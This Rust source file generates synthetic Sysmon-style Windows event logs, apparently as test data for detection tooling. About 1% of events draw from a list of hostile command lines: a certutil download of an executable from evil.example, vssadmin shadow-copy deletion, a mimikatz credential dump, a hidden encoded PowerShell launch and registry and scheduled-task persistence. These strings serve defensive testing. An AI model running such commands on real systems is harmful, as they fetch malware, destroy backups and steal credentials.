//! Deterministic synthetic Sysmon-like events (flat JSON, as Sysmon/winlogbeat exports
//! flatten them): mostly benign process creations with realistic field values, some
//! network, image load, file, registry and DNS events, and ~1% suspicious command lines.

use serde_json::{json, Value};

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        // xorshift64*: deterministic, good enough for picking from pools.
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn pick<'a>(&mut self, v: &[&'a str]) -> &'a str {
        v[(self.next() % v.len() as u64) as usize]
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

const IMAGES: &[&str] = &[
    "C:\\Windows\\System32\\svchost.exe",
    "C:\\Windows\\System32\\conhost.exe",
    "C:\\Windows\\explorer.exe",
    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
    "C:\\Windows\\System32\\RuntimeBroker.exe",
    "C:\\Windows\\System32\\backgroundTaskHost.exe",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    "C:\\Windows\\System32\\taskhostw.exe",
    "C:\\Windows\\System32\\SearchProtocolHost.exe",
    "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
    "C:\\Windows\\System32\\dllhost.exe",
    "C:\\Program Files\\Windows Defender\\MsMpEng.exe",
    "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
];

const ARGS: &[&str] = &[
    "-k netsvcs -p -s Schedule",
    "--type=renderer --field-trial-handle=1234,5678 --lang=en-US --enable-auto-reload",
    "/c echo hello > nul",
    "-ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1",
    "/processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
    "-Embedding",
    "/d /c \"C:\\Program Files\\app\\update.bat\"",
    "--no-sandbox --utility-sub-type=network.mojom.NetworkService",
    "-NoProfile -Command Get-ChildItem C:\\Users\\alice\\Documents",
    "",
    "/s /q C:\\Temp\\build",
    "0x4 -ServerName:App.AppXmtcan.mca",
];

const SUSPICIOUS: &[&str] = &[
    "cmd.exe /c whoami /all",
    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "rundll32.exe C:\\Users\\Public\\x.dll,DllRegisterServer",
    "certutil.exe -urlcache -split -f http://evil.example/a.exe a.exe",
    "vssadmin.exe delete shadows /all /quiet",
    "mimikatz.exe privilege::debug sekurlsa::logonpasswords",
    "schtasks /create /tn upd /tr C:\\ProgramData\\u.exe /sc minute",
    "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\x.exe",
];

const USERS: &[&str] = &[
    "CORP\\alice",
    "CORP\\bob",
    "NT AUTHORITY\\SYSTEM",
    "CORP\\svc_backup",
];
const HOSTS: &[&str] = &[
    "ws-001.corp.example",
    "ws-002.corp.example",
    "srv-db01.corp.example",
];
const DOMAINS: &[&str] = &[
    "www.google.com",
    "login.microsoftonline.com",
    "update.example.org",
    "cdn.jsdelivr.net",
    "raw.githubusercontent.com",
];
const DLLS: &[&str] = &[
    "C:\\Windows\\System32\\ntdll.dll",
    "C:\\Windows\\System32\\kernel32.dll",
    "C:\\Windows\\System32\\advapi32.dll",
    "C:\\Windows\\System32\\crypt32.dll",
    "C:\\Windows\\System32\\wininet.dll",
];
const FILES: &[&str] = &[
    "C:\\Users\\alice\\AppData\\Local\\Temp\\tmp1234.tmp",
    "C:\\Users\\alice\\Downloads\\report.pdf",
    "C:\\Windows\\Prefetch\\CHROME.EXE-1234ABCD.pf",
    "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpcache.bin",
];
const KEYS: &[&str] = &[
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\StartupApproved",
    "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming",
    "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings",
];

/// `n` events, the same for a given seed.
pub fn events(n: usize, seed: u64) -> Vec<Value> {
    let mut r = Rng(seed | 1);
    (0..n).map(|i| one(&mut r, i)).collect()
}

fn one(r: &mut Rng, i: usize) -> Value {
    let image = r.pick(IMAGES);
    let parent = r.pick(IMAGES);
    let cmd = if r.below(100) == 0 {
        r.pick(SUSPICIOUS).to_string()
    } else {
        format!("\"{image}\" {}", r.pick(ARGS))
    };
    let common = |eid: u32| {
        json!({
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "EventID": eid,
            "Provider_Name": "Microsoft-Windows-Sysmon",
            "Computer": HOSTS[i % HOSTS.len()],
            "UtcTime": format!("2024-05-06 10:{:02}:{:02}.{:03}", (i / 60) % 60, i % 60, i % 1000),
            "ProcessGuid": format!("{{6c1e2a3b-{:04x}-66a1-0000-0010{:08x}}}", i % 65536, i),
            "ProcessId": 1000 + (i % 7000),
            "Image": image,
            "User": USERS[i % USERS.len()],
        })
    };
    let kind = r.below(100);
    let mut ev = if kind < 60 {
        let mut e = common(1);
        let m = e.as_object_mut().expect("object");
        let base = image.rsplit('\\').next().unwrap_or(image);
        m.insert("CommandLine".into(), json!(cmd));
        m.insert("ParentImage".into(), json!(parent));
        m.insert("ParentCommandLine".into(), json!(format!("\"{parent}\"")));
        m.insert("OriginalFileName".into(), json!(base));
        m.insert("CurrentDirectory".into(), json!("C:\\Windows\\system32\\"));
        m.insert("IntegrityLevel".into(), json!("Medium"));
        m.insert("Company".into(), json!("Microsoft Corporation"));
        m.insert(
            "Product".into(),
            json!("Microsoft® Windows® Operating System"),
        );
        m.insert("Description".into(), json!("Host Process"));
        m.insert(
            "Hashes".into(),
            json!(format!(
                "SHA256={:064X},IMPHASH={:032X}",
                r.next(),
                r.next()
            )),
        );
        m.insert("LogonId".into(), json!("0x3e7"));
        m.insert("TerminalSessionId".into(), json!(1));
        e
    } else if kind < 72 {
        let mut e = common(3);
        let m = e.as_object_mut().expect("object");
        m.insert("Protocol".into(), json!("tcp"));
        m.insert("Initiated".into(), json!("true"));
        m.insert(
            "SourceIp".into(),
            json!(format!("10.0.{}.{}", r.below(255), r.below(255))),
        );
        m.insert("SourcePort".into(), json!(49152 + r.below(10000)));
        m.insert(
            "DestinationIp".into(),
            json!(format!("93.184.{}.{}", r.below(255), r.below(255))),
        );
        m.insert(
            "DestinationPort".into(),
            json!([443, 80, 445, 3389][r.below(4) as usize]),
        );
        m.insert("DestinationHostname".into(), json!(r.pick(DOMAINS)));
        e
    } else if kind < 82 {
        let mut e = common(7);
        let m = e.as_object_mut().expect("object");
        m.insert("ImageLoaded".into(), json!(r.pick(DLLS)));
        m.insert("Signed".into(), json!("true"));
        m.insert("Signature".into(), json!("Microsoft Windows"));
        e
    } else if kind < 90 {
        let mut e = common(11);
        e.as_object_mut()
            .expect("object")
            .insert("TargetFilename".into(), json!(r.pick(FILES)));
        e
    } else if kind < 96 {
        let mut e = common(13);
        let m = e.as_object_mut().expect("object");
        m.insert("EventType".into(), json!("SetValue"));
        m.insert("TargetObject".into(), json!(r.pick(KEYS)));
        m.insert("Details".into(), json!("DWORD (0x00000001)"));
        e
    } else {
        let mut e = common(22);
        let m = e.as_object_mut().expect("object");
        m.insert("QueryName".into(), json!(r.pick(DOMAINS)));
        m.insert("QueryStatus".into(), json!("0"));
        m.insert("QueryResults".into(), json!("::ffff:93.184.216.34;"));
        e
    };
    let _ = &mut ev;
    ev
}
